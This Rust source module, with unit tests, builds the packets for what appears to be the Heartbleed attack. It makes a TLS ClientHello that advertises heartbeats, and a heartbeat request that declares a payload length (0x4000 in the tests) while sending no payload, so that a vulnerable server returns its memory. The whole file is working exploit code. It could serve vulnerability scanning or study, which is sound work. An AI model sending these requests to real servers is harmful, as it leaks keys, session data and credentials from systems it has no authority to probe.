use super::{CONTENT_TYPE_HEARTBEAT, HEARTBEAT_REQUEST};
use rand::Rng;

/// Record header, ClientHello header and client version (TLS 1.1).
const CLIENT_HELLO_PREFIX: &[u8] = &[
    0x16, // handshake
    0x03, 0x02, // record version
    0x00, 0xdc, // record length
    0x01, // client hello
    0x00, 0x00, 0xd8, // message length
    0x03, 0x02, // client version
];

/// Everything after the random field: empty session id, 51 cipher suites,
/// null compression and four extensions, the last one enabling heartbeats.
const CLIENT_HELLO_SUFFIX: &[u8] = &[
    0x00, // session id length
    0x00, 0x66, // cipher suites length
    0xc0, 0x14, 0xc0, 0x0a, 0xc0, 0x22, 0xc0, 0x21, 0x00, 0x39, 0x00, 0x38,
    0x00, 0x88, 0x00, 0x87, 0xc0, 0x0f, 0xc0, 0x05, 0x00, 0x35, 0x00, 0x84,
    0xc0, 0x12, 0xc0, 0x08, 0xc0, 0x1c, 0xc0, 0x1b, 0x00, 0x16, 0x00, 0x13,
    0xc0, 0x0d, 0xc0, 0x03, 0x00, 0x0a, 0xc0, 0x13, 0xc0, 0x09, 0xc0, 0x1f,
    0xc0, 0x1e, 0x00, 0x33, 0x00, 0x32, 0x00, 0x9a, 0x00, 0x99, 0x00, 0x45,
    0x00, 0x44, 0xc0, 0x0e, 0xc0, 0x04, 0x00, 0x2f, 0x00, 0x96, 0x00, 0x41,
    0xc0, 0x11, 0xc0, 0x07, 0xc0, 0x0c, 0xc0, 0x02, 0x00, 0x05, 0x00, 0x04,
    0x00, 0x15, 0x00, 0x12, 0x00, 0x09, 0x00, 0x14, 0x00, 0x11, 0x00, 0x08,
    0x00, 0x06, 0x00, 0x03, 0x00, 0xff,
    0x01, 0x00, // compression methods: null
    0x00, 0x49, // extensions length
    // ec_point_formats
    0x00, 0x0b, 0x00, 0x04, 0x03, 0x00, 0x01, 0x02,
    // elliptic_curves
    0x00, 0x0a, 0x00, 0x34, 0x00, 0x32,
    0x00, 0x0e, 0x00, 0x0d, 0x00, 0x19, 0x00, 0x0b, 0x00, 0x0c, 0x00, 0x18,
    0x00, 0x09, 0x00, 0x0a, 0x00, 0x16, 0x00, 0x17, 0x00, 0x08, 0x00, 0x06,
    0x00, 0x07, 0x00, 0x14, 0x00, 0x15, 0x00, 0x04, 0x00, 0x05, 0x00, 0x12,
    0x00, 0x13, 0x00, 0x01, 0x00, 0x02, 0x00, 0x03, 0x00, 0x0f, 0x00, 0x10,
    0x00, 0x11,
    // session_ticket
    0x00, 0x23, 0x00, 0x00,
    // heartbeat: peer_allowed_to_send
    0x00, 0x0f, 0x00, 0x01, 0x01,
];

const RANDOM_LEN: usize = 32;

pub const CLIENT_HELLO_LEN: usize = CLIENT_HELLO_PREFIX.len() + RANDOM_LEN + CLIENT_HELLO_SUFFIX.len();

/// Builds the ClientHello record: fixed template, a big-endian unix timestamp
/// and seven random words.
pub fn build_client_hello() -> Vec<u8> {
    let now = chrono::Utc::now().timestamp() as u32;
    client_hello_with(now, &mut rand::thread_rng())
}

pub(crate) fn client_hello_with<R: Rng>(timestamp: u32, rng: &mut R) -> Vec<u8> {
    let mut hello = Vec::with_capacity(CLIENT_HELLO_LEN);
    hello.extend_from_slice(CLIENT_HELLO_PREFIX);
    hello.extend_from_slice(&timestamp.to_be_bytes());
    for _ in 0..7 {
        hello.extend_from_slice(&rng.gen::<u32>().to_be_bytes());
    }
    hello.extend_from_slice(CLIENT_HELLO_SUFFIX);
    hello
}

/// Builds a heartbeat request whose payload length field claims `declared_length`
/// bytes while no payload is actually sent.
pub fn build_heartbeat_request(version: u16, declared_length: u16) -> Vec<u8> {
    let mut request = Vec::with_capacity(8);
    request.push(CONTENT_TYPE_HEARTBEAT);
    request.extend_from_slice(&version.to_be_bytes());
    request.extend_from_slice(&[0x00, 0x03, HEARTBEAT_REQUEST]);
    request.extend_from_slice(&declared_length.to_be_bytes());
    request
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tls::{parse_record_header, CONTENT_TYPE_HANDSHAKE, RECORD_HEADER_LEN};
    use rand::rngs::mock::StepRng;

    #[test]
    fn client_hello_lengths_are_consistent() {
        let hello = build_client_hello();
        assert_eq!(hello.len(), CLIENT_HELLO_LEN);

        let (typ, version, record_len) = parse_record_header(&hello).unwrap();
        assert_eq!(typ, CONTENT_TYPE_HANDSHAKE);
        assert_eq!(version, 0x0302);
        assert_eq!(record_len, hello.len() - RECORD_HEADER_LEN);

        let msg_len = ((hello[6] as usize) << 16) | ((hello[7] as usize) << 8) | hello[8] as usize;
        assert_eq!(msg_len, record_len - 4);
    }

    #[test]
    fn client_hello_carries_timestamp_and_random() {
        let mut rng = StepRng::new(1, 1);
        let hello = client_hello_with(0x5342_0000, &mut rng);
        let start = CLIENT_HELLO_PREFIX.len();
        assert_eq!(&hello[start..start + 4], &[0x53, 0x42, 0x00, 0x00]);
        assert_eq!(&hello[start + 4..start + 8], &[0, 0, 0, 1]);
        assert_eq!(&hello[start + 28..start + 32], &[0, 0, 0, 7]);
        assert_eq!(&hello[start + RANDOM_LEN..], CLIENT_HELLO_SUFFIX);
    }

    #[test]
    fn client_hello_advertises_heartbeat() {
        let hello = build_client_hello();
        assert!(hello.ends_with(&[0x00, 0x0f, 0x00, 0x01, 0x01]));
    }

    #[test]
    fn heartbeat_request_declares_length_without_payload() {
        let request = build_heartbeat_request(0x0302, 0x4000);
        assert_eq!(request, vec![0x18, 0x03, 0x02, 0x00, 0x03, 0x01, 0x40, 0x00]);

        let (typ, version, record_len) = parse_record_header(&request).unwrap();
        assert_eq!(typ, CONTENT_TYPE_HEARTBEAT);
        assert_eq!(version, 0x0302);
        assert_eq!(record_len, 3);

        let body = &request[RECORD_HEADER_LEN..];
        assert_eq!(body[0], HEARTBEAT_REQUEST);
        assert_eq!(u16::from_be_bytes([body[1], body[2]]), 0x4000);
        assert_eq!(body.len() - 3, 0);
    }
}
